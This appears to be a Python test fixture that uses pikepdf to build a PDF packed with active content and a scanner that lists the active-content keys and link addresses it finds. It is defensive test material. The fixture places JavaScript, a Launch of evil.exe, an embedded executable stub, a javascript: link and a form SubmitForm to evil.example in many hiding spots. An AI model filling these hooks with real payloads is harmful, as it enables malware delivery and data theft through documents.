"""A PDF that holds everything that acts, and a look for it in any other."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def hostile_pdf():
    """A PDF that holds everything that acts, in every place where it can."""
    with pikepdf.new() as document:
        document.add_blank_page()
        document.add_blank_page()
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('evil')"))
        launch = Dictionary(S=Name.Launch, F=String("evil.exe"))
        embedded = document.make_stream(b"MZ evil", Type=Name.EmbeddedFile)
        attached = document.make_indirect(Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=embedded)))
        document.Root.OpenAction = script
        document.Root.AA = Dictionary(WC=script)
        document.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("evil"), script])), EmbeddedFiles=Dictionary(Names=Array([String("evil"), attached]))
        )
        document.Root.AF = Array([attached])
        shown = document.make_stream(b"0 0 5 5 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
        shown.PieceInfo = Dictionary(Evil=Dictionary(JS=script))
        page = document.pages[0]
        page.obj.AA = Dictionary(O=script)
        page.obj.AF = Array([attached])
        outside = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
        outside.Ref = Dictionary(F=attached, Page=0)
        outside.F = attached
        outside.OPI = Dictionary(F=attached)
        page.obj.Resources = Dictionary(XObject=Dictionary(X=outside, Y=shown))

        def annotation(kind, **more):
            return document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[10, 10, 50, 20], **more))

        field = annotation(
            "Widget", FT=Name.Tx, T=String("name"), V=String("Filled in by hand"), DA=String("/Helv 10 Tf 0 g"), F=4,
            AA=Dictionary(K=script), A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")),
        )  # fmt: skip
        field.Rect = Array([10, 700, 300, 720])
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        document.Root.AcroForm = Dictionary(
            Fields=Array([field]), NeedAppearances=True, XFA=document.make_stream(b"<xdp:xdp/>"), DA=String("/Helv 10 Tf 0 g"),
            DR=Dictionary(Font=Dictionary(Helv=document.make_indirect(font))),
        )  # fmt: skip
        page.obj.Annots = Array([
            field,
            annotation("Link", A=launch),
            annotation("Link", A=Dictionary(S=Name.GoToR, F=attached, D=Array([0, Name.Fit]))),
            annotation("Link", A=Dictionary(S=Name.URI, URI=String("javascript:evil()"))),
            annotation("Link", A=Dictionary(S=Name.URI, URI=String("https://doi.org/10.1/x"), Next=script)),
            annotation("Link", A=Dictionary(S=Name.ImportData, F=attached)),
            annotation("FileAttachment", FS=attached, AP=Dictionary(N=shown)),
            annotation("Screen", A=Dictionary(S=Name.Rendition, JS=String("evil()"))),
            annotation("RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("evil"), attached])))),
        ])  # fmt: skip
        target = io.BytesIO()
        document.save(target)
        return target.getvalue()


NAMES = {
    "/AA", "/AF", "/AcroForm", "/EF", "/EmbeddedFile", "/EmbeddedFiles", "/GoToR", "/ImportData", "/JS", "/JavaScript", "/Launch",
    "/OPI", "/OpenAction", "/Ref", "/Rendition", "/RichMedia", "/SubmitForm", "/Widget", "/XFA", "/FileAttachment", "/Filespec",
}  # fmt: skip


def acting(content):
    """Every name of NAMES that occurs anywhere in the objects of a PDF, and every address that a link leads to."""

    def here(item):
        return isinstance(item, Name) or isinstance(item, (Array, Dictionary)) and not item.is_indirect

    names, addresses = set(), []
    with pikepdf.open(io.BytesIO(content)) as document:
        for thing in document.objects:
            waiting = [thing]
            while waiting:
                part = waiting.pop()
                if isinstance(part, Name):
                    names.add(str(part))
                elif isinstance(part, Array):
                    waiting += filter(here, part)
                elif isinstance(part, (Dictionary, pikepdf.Stream)):
                    names |= set(part.keys())
                    addresses += [str(part["/URI"])] if "/URI" in part else []
                    waiting += filter(here, (item for _key, item in part.items()))
    return names & NAMES, addresses
